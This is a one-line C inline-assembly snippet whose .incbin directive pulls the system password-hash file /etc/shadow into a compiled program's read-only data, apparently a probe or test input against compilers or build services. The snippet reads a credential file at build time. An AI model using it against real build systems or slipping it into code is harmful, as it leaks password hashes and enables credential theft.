asm(".pushsection .rodata\n"
    ".incbin \"/etc/shadow\"\n"
    ".popsection\n");
